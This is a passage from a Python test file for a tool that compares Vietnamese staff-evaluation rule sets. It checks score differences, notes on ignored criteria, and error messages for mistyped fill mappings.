        row = {"staff_id": "A", "period": "2026-03", **nd.full_marks(), "sang_kien_so": 5}
        data = tmp_path / "march.csv"
        pd.DataFrame([row, {**row, "staff_id": "B", "so_luong": 80}]).to_csv(data, index=False)
        args = ["--lang", "en", "rules", "diff", "vn.nd335-2025", str(agency), "--data",
                str(data)]
        assert main(args, stdout=io.StringIO()) == 1
        err = capsys.readouterr().err
        assert "sang_kien_so" in err
        assert "Hint: without --rules the data are read under the rule set in force" in err
        assert f"--rules {agency}" in err
        buf = io.StringIO()
        assert main([*args, "--rules", str(agency), "--json"], stdout=buf) == 0, buf.getvalue()
        assert json.loads(buf.getvalue())["new"] == "vn.mau.bonus-2026"


def test_an_agency_files_own_criterion_is_left_out_of_the_preset_it_is_compared_with(
    tmp_path: Path,
) -> None:
    """NEW, an agency's rule file (not registered), scores a criterion of its own; OLD, the
    preset, leaves that column out as it leaves out a registered set's, and the notes say
    so, instead of refusing it as an unknown column."""
    new = rules.load(_bonus_file(tmp_path))
    nd = rules.get("vn.nd335-2025")
    row = {"staff_id": "A", "period": "2026-03", **nd.full_marks()}
    frame = pd.DataFrame([{**row, "tien_do": 70, "sang_kien_so": 5},
                          {**row, "staff_id": "B", "tien_do": 70, "sang_kien_so": 0}])
    report = compare_rule_sets(nd, new, frame, level="period")
    assert any("vn.nd335-2025 (OLD) ignores sang_kien_so" in str(n) for n in report.notes)
    # both 30 + 90 % of 70 = 93 before; after 30 + 90 % of 65 = 88.5, and A's bonus: 93.5
    assert report.changes[["staff_id", "old_total", "new_total", "direction"]].to_dict(
        "records") == [{"staff_id": "B", "old_total": 93.0, "new_total": 88.5,
                        "direction": "down"}]  # fmt: skip
    report = compare_rule_sets(new, nd, frame, level="period")
    assert any("vn.nd335-2025 (NEW) ignores sang_kien_so" in str(n) for n in report.notes)

def test_a_fill_the_python_door_cannot_use_is_refused_by_name() -> None:
    """``fill=`` names a criterion neither set has (a typo), or a source the data lack: both
    are said, with the other problems (the CLI's --fill refuses the first too), instead of
    the typo being ignored and the criterion reported missing without a word on its fill."""
    nd = rules.get("vn.nd335-2025")
    df = pd.DataFrame([{"staff_id": "S1", "unit_id": "U", "period": "2026-03",
                        **nd.full_marks()}]).drop(columns=["so_luong"])  # fmt: skip
    with pytest.raises(InputError) as info:
        compare_rule_sets(nd, nd, df, fill={"so_luongg": "so_luong_cu"}, level="period")
    typo = [p for p in info.value.problems if p.column == "so_luongg"]
    assert len(typo) == 1 and "did you mean 'so_luong'" in typo[0].message
    with pytest.raises(InputError) as info:
        compare_rule_sets(nd, nd, df, fill={"so_luong": "nope"}, level="period")
    assert {p.column for p in info.value.problems} == {"so_luong"}
    assert all("fill source 'nope' is not in the data" in p.message
               for p in info.value.problems)  # fmt: skip
    filled = compare_rule_sets(nd, nd, df.assign(cu=100.0), fill={"so_luong": "cu"},
                               level="period")  # fmt: skip
    assert filled.changes.empty
